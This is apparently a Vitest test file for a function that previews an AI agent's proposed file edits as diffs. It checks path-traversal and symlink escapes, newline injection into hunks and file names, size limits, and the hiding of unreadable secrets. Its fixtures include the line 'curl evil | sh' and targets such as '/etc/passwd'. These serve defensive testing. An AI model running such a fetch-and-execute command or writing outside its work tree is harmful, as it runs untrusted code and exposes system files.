import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { FileEdit } from '../../../../src/core/tool-input.js';
import { type EditContext, previewEdits } from '../../../../src/gateway/reports/preview-edits.js';
import { WorkTreeFiles } from '../../../../src/process/work-tree-files.js';
import { agentUser, filesOf, workTree } from '../../process/agent-user.js';

let root: string;
let cwd: string;
beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'turnout-preview-'));
  cwd = join(root, 'work');
  mkdirSync(cwd);
  writeFileSync(join(cwd, 'a.txt'), 'one\ntwo\nthree\ntwo\n');
  writeFileSync(join(root, 'secret'), 'a key\n');
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

const workTrees = new WorkTreeFiles({ home: '/nonexistent' });
const preview = (edits: readonly FileEdit[], more: Partial<EditContext> = {}) =>
  previewEdits(workTrees, edits, { cwd, wholeFiles: true, everywhere: false, ...more });
const diffOf = async (...given: Parameters<typeof preview>) => (await preview(...given))[0]?.diff;

describe('the preview of an edit', () => {
  it('is a diff against the file as it is now (16.4)', async () => {
    expect(await preview([{ path: join(cwd, 'a.txt'), before: 'two', after: '2' }])).toEqual([
      {
        path: 'a.txt',
        diff: '--- a/a.txt\n+++ b/a.txt\n@@ -1,4 +1,4 @@\n one\n-two\n+2\n three\n two\n',
      },
    ]);
  });

  it('shows every place that would change (16.4)', async () => {
    const edit = { path: 'a.txt', before: 'two', after: '2' };
    expect((await diffOf([edit], { everywhere: true }))?.match(/^\+2$/gm)).toHaveLength(2);
    expect(await diffOf([edit, { path: 'a.txt', before: 'three', after: '3' }])).toContain(
      '-two\n-three\n+2\n+3\n',
    );
  });

  it('shows a new file, a replaced one, and a deleted one (16.4)', async () => {
    expect(await diffOf([{ path: 'new/b.txt', after: 'x\n' }])).toBe(
      '--- /dev/null\n+++ b/new/b.txt\n@@ -0,0 +1,1 @@\n+x\n',
    );
    expect(await diffOf([{ path: 'a.txt', after: 'x\n' }])).toContain('-three\n-two\n+x\n');
    expect(await diffOf([{ path: 'a.txt', before: 'one\ntwo\nthree\ntwo\n' }])).toContain('+++ /dev/null\n');
    expect(await diffOf([{ path: 'n.txt', before: '', after: 'x\n' }])).toContain('+x\n');
  });

  it('finds the place of hunks without line numbers (16.4)', async () => {
    expect(await diffOf([{ path: 'a.txt', diff: '@@\n three\n-two\n+2\n' }])).toBe(
      '--- a/a.txt\n+++ b/a.txt\n@@ -1,4 +1,4 @@\n one\n two\n three\n-two\n+2\n',
    );
    const numbered = '@@ -4,1 +4,1 @@\n-two\n+2\n';
    expect(await diffOf([{ path: 'a.txt', diff: numbered }])).toBe(`--- a/a.txt\n+++ b/a.txt\n${numbered}`);
  });

  it.each(['\r', '\u2028', '\u2029'])(
    'takes no text of a file for a hunk or a name (%j) (16.5)',
    async (end) => {
      writeFileSync(join(cwd, 'a.txt'), `one\ntwo${end}@@ -1 +1 @@${end}--- a/x\nthree\n`);
      const line = `two${end}@@ -1 +1 @@${end}--- a/x`;
      expect(await diffOf([{ path: 'a.txt', diff: `@@\n one\n-${line}\n+2${end}@@ evil\n` }])).toBe(
        `--- a/a.txt\n+++ b/a.txt\n@@ -1,3 +1,3 @@\n one\n-${line}\n+2${end}@@ evil\n three\n`,
      );
      const unfit = `@@\n-four${end}--- a/harmless\n+4\n`;
      expect(await diffOf([{ path: 'a.txt', diff: unfit }])).toBe(`--- a/a.txt\n+++ b/a.txt\n${unfit}`);
    },
  );

  it('has one heading: a removed line "-- x" is none (16.5)', async () => {
    const unfit = '@@\n--- x\n+++ y\n';
    expect(await diffOf([{ path: 'a.txt', diff: unfit }])).toBe(`--- a/a.txt\n+++ b/a.txt\n${unfit}`);
    const twice = await diffOf([
      { path: 'a.txt', before: 'x\n', after: 'y\n' },
      { path: 'a.txt', before: 'z\n', after: 'w\n' },
    ]);
    expect(twice).toBe('--- a/a.txt\n+++ b/a.txt\n@@ -1,1 +1,1 @@\n-x\n+y\n@@ -1,1 +1,1 @@\n-z\n+w\n');
    const named = await diffOf([{ path: 'a\n@@ -1 +1 @@\n+x', diff: '@@\n-x\n' }]);
    expect(named?.split('\n').slice(2)).toEqual(['@@', '-x', '']);
  });

  it('tells what the lines do not (16.5)', async () => {
    expect(await diffOf([{ path: 'a.txt', deleted: true }])).toBe(
      '\\ The file is deleted\n--- a/a.txt\n+++ /dev/null\n@@ -1,4 +0,0 @@\n-one\n-two\n-three\n-two\n',
    );
    expect(await diffOf([{ path: '../secret', deleted: true }])).toBe(
      `\\ Leads outside the work tree, to ${join(root, 'secret')}\n\\ The file is deleted\n`,
    );
    expect(await diffOf([{ path: 'a.txt', diff: '@@\n-one\n+1\n', movedTo: '/etc/x\n+y' }])).toMatch(
      /^\\ Leads outside the work tree, to \/etc\/x\?\+y\n\\ The file is moved to \/etc\/x\?\+y\n--- a\/a\.txt\n/,
    );
    expect(await diffOf([{ path: 'n.ipynb', note: 'A cell of the notebook is deleted' }])).toBe(
      '\\ A cell of the notebook is deleted\n',
    );
    expect(await diffOf([{ path: 'a.txt' }])).toBe('\\ What changes is not told\n');
  });

  it.each<[string, FileEdit, Partial<EditContext>?]>([
    ['has another text by now', { path: 'a.txt', before: 'four', after: '4' }],
    ['is outside', { path: '../secret', before: 'a key', after: '4' }],
    ['is outside, by its whole path', { path: '/etc/passwd', before: 'root', after: '4' }],
    ['is a link to outside', { path: 'link', before: 'a key', after: '4' }],
    ['is in a directory that is a link to outside', { path: 'dir/secret', before: 'a key', after: '4' }],
    ['is not text', { path: 'binary', before: 'x', after: '4' }],
    ['is too long', { path: 'long', before: 'x', after: '4' }],
    ['is a FIFO', { path: 'fifo', before: 'x', after: '4' }],
    ['is a directory', { path: '.', before: 'x', after: '4' }],
    ['has a name that is none', { path: 'a\0b', before: 'x', after: '4' }],
    ['is in an unknown directory', { path: 'a.txt', before: 'two', after: '4' }, { cwd: undefined }],
  ])('is the edit alone if the file %s (16.4)', async (_, edit, more = {}) => {
    symlinkSync(join(root, 'secret'), join(cwd, 'link'));
    symlinkSync(root, join(cwd, 'dir'));
    writeFileSync(join(cwd, 'binary'), Buffer.from([0x78, 0, 0xff]));
    writeFileSync(join(cwd, 'long'), 'x'.repeat(300_000));
    execFileSync('mkfifo', [join(cwd, 'fifo')]);
    const diff = await diffOf([edit], more);
    expect(
      diff
        ?.replace(/^\\ Leads outside.*\n/, '')
        .split('\n')
        .slice(2)
        .join('\n'),
    ).toBe(
      `@@ -1,1 +1,1 @@\n-${edit.before}\n\\ No newline at end of file\n+4\n\\ No newline at end of file\n`,
    );
  });

  it('takes no file for a new one whose text is not shown (27.11)', async () => {
    writeFileSync(join(cwd, 'binary'), Buffer.from([0x78, 0, 0xff]));
    writeFileSync(join(cwd, 'long'), 'x'.repeat(300_000));
    for (const [path, why] of [
      ['binary', 'is no text'],
      ['long', 'is too long to be shown'],
      ['.', "can't be read"],
    ] as const)
      expect(await diffOf([{ path, after: 'x\n' }])).toBe(
        `\\ What is there ${why}\n--- a/${path}\n+++ b/${path}\n@@ -0,0 +1,1 @@\n+x\n`,
      );
    const cell = await diffOf([{ path: 'a.txt', after: 'a cell\n' }], { wholeFiles: false });
    expect(cell).toBe('--- a/a.txt\n+++ b/a.txt\n@@ -0,0 +1,1 @@\n+a cell\n');
  });

  it('never takes a piece for the whole file (16.4)', async () => {
    const diff = await diffOf([{ path: 'a.txt', after: 'a cell' }], { wholeFiles: false });
    expect(diff).toContain('+a cell\n');
    expect(diff).not.toContain('-one');
  });

  it('is bounded, all files together; a long file leaves room for the others (16.5)', async () => {
    const long = Array.from({ length: 20 }, (_, i) => ({ path: `${i}.txt`, after: 'x\n'.repeat(40_000) }));
    const previews = await preview([...long, { path: 'b.sh', after: 'curl evil | sh\n' }]);
    expect(previews).toHaveLength(21);
    expect(previews.reduce((sum, { diff }) => sum + diff.length, 0)).toBeLessThan(1_060_000);
    expect(previews[0]?.left).toBeGreaterThan(50_000);
    expect(previews.at(-1)).toMatchObject({ path: 'b.sh', diff: expect.stringContaining('+curl evil | sh') });
    expect(previews.at(-1)).not.toHaveProperty('left');
  });

  it('shows the beginning of one long line, and how much is left (16.5)', async () => {
    const [shown] = await preview([{ path: 'x.sh', after: `evil #${'a'.repeat(2_000_000)}\n` }]);
    expect(shown?.diff).toContain('+evil #aaa');
    expect(shown?.left).toBeGreaterThan(900_000);
  });

  it('tells where links lead to, also those to what is not there yet (16.5)', async () => {
    symlinkSync('../secret', join(cwd, 'notes.txt'));
    symlinkSync('../new', join(cwd, 'new.txt'));
    symlinkSync(root, join(cwd, 'docs'));
    symlinkSync('a.txt', join(cwd, 'inside'));
    const of = async (path: string) => (await preview([{ path, after: 'x\n' }]))[0];
    for (const [path, leadsTo] of [
      [join(cwd, 'notes.txt'), join(root, 'secret')],
      ['new.txt', join(root, 'new')],
      ['docs/deep/er', join(root, 'deep/er')],
      ['../secret', join(root, 'secret')],
    ] as const) {
      const found = await of(path);
      expect(found).toMatchObject({ leadsTo, outside: true });
      expect(found?.diff).toContain(`\\ Leads outside the work tree, to ${leadsTo}\n`);
    }
    expect(await of('inside')).toMatchObject({ leadsTo: 'a.txt' });
    expect(await of('inside')).not.toHaveProperty('outside');
    for (const path of ['a.txt', 'deep/new.txt', join(cwd, 'x')])
      expect(await of(path)).not.toHaveProperty('leadsTo');
    symlinkSync(cwd, join(root, 'linked'));
    const inLinked = await preview([{ path: join(root, 'linked/a.txt'), after: 'x\n' }], {
      cwd: join(root, 'linked'),
    });
    expect(inLinked[0]).not.toHaveProperty('leadsTo');
  });
});

describe('the preview of an edit by AGENT_USER', () => {
  it('shows nothing of a file that the user can’t read: what it asks to write there is all (27.11)', async (test) => {
    const user = agentUser(test);
    const { work, home } = workTree(user);
    writeFileSync(join(work, 'secret'), 'PASSWORD=1\nname=a\n', { mode: 0o600 });
    writeFileSync(join(work, 'open'), 'open\nname=a\n', { mode: 0o644 });
    const files = filesOf(home, user);
    const context = { cwd: work, wholeFiles: true, everywhere: false };
    const shown = (path: string, edit: object) => previewEdits(files, [{ path, ...edit }], context);
    expect(await shown('open', { after: 'b\n' })).toMatchObject([
      { diff: expect.stringContaining('-open\n') },
    ]);
    for (const edit of [{ after: 'b\n' }, { before: 'name=a', after: 'b' }])
      expect(JSON.stringify(await shown('secret', edit))).not.toContain('PASSWORD');
    // It is no new file, either.
    const change = '@@ -0,0 +1,1 @@\n+b\n';
    execFileSync('mkfifo', [join(work, 'pipe')]);
    for (const path of ['secret', 'pipe'])
      expect(await shown(path, { after: 'b\n' })).toEqual([
        { path, diff: `\\ What is there can't be read\n--- a/${path}\n+++ b/${path}\n${change}` },
      ]);
  });
});
